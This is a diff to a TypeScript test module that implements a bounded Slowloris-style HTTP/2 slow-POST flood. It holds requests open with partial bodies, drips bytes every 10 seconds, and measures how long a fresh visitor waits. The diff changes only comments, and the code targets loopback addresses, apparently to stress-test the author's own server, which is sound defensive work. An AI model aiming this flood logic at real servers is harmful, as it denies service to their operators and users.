@@ -3,8 +3,8 @@ import net from "node:net";
 import tls from "node:tls";
 
 /**
- * Requests that are begun and never ended: what they hold is the attack. Bounded in count, and of this machine alone.
- * Resolves when the edge has read what is sent at once.
+ * Slowloris: requests that are begun and never completed, to occupy connections and memory. Bounded in number, against this machine only.
+ * Resolves when the edge has read the bytes that are sent at the beginning.
  */
 export async function hold(edge: string, { connections, streams, path, announced, sent, from = "127.0.0.2" }: Flood): Promise<Attack> {
   const sessions = Array.from({ length: connections }, () => connect(edge, from));
@@ -16,7 +16,7 @@ export async function hold(edge: string, { connections, streams, path, announced
       ":method": "POST",
       ":path": path,
       "content-type": path.startsWith("/v1/") ? "application/json" : "application/x-www-form-urlencoded",
-      origin: new URL(edge).origin, // a form from elsewhere would be turned away at its head
+      origin: new URL(edge).origin, // without it the CSRF check would refuse the form by its headers
       "content-length": String(announced),
     });
     let outcome = "no answer";
@@ -30,9 +30,9 @@ export async function hold(edge: string, { connections, streams, path, announced
     stream.resume().write(Buffer.alloc(sent, "x"));
   };
   for (const session of sessions) {
-    await usable(session); // before it knows how many streams it may have it would try too many
+    await usable(session); // SETTINGS have to arrive first, with the maximum of concurrent streams
     for (let i = 0; i < streams; i++) begin(session);
-    await usable(session); // one connection after the other, as fast as the edge reads
+    await usable(session); // one connection after the other, at the edge's pace
   }
   const drip = setInterval(() => open.forEach((stream) => stream.write("x")), 10_000);
   return {
@@ -45,7 +45,7 @@ export async function hold(edge: string, { connections, streams, path, announced
   };
 }
 
-/** On a new connection: an answer counts only if it comes to somebody who has just arrived. */
+/** A request on a new connection, as of a new visitor. */
 export async function visit(edge: string, path: string, from = "127.0.0.1"): Promise<Visit> {
   const began = performance.now();
   const session = connect(edge, from);
@@ -75,7 +75,7 @@ function connect(edge: string, localAddress: string): http2.ClientHttp2Session {
   return http2.connect(edge, { createConnection: socket }).on("error", () => {});
 }
 
-/** Answered by a ping: the other side has read all that was written before. */
+/** The answer to an HTTP/2 ping shows that the peer has read everything written before it. */
 const usable = (session: http2.ClientHttp2Session): Promise<void> =>
   new Promise((resolve) => {
     if (session.destroyed) return resolve();
@@ -90,17 +90,17 @@ export interface Flood {
   /** Per connection. */
   streams: number;
   path: string;
-  /** Bytes that the request says it has, and how many of them come at once. The rest comes at a byte per 10 s. */
+  /** The content-length, and how many bytes are sent at once. The rest follows at one byte per 10 s. */
   announced: number;
   sent: number;
-  /** The attacker's own address. */
+  /** The attacker's source address. */
   from?: string;
 }
 
 export interface Attack {
-  /** Requests that are neither answered nor cut. */
+  /** The number of requests that are neither answered nor reset. */
   held(): number;
-  /** How often which status came. */
+  /** The number of responses per status. */
   answers: Record<string, number>;
   stop(): void;
 }
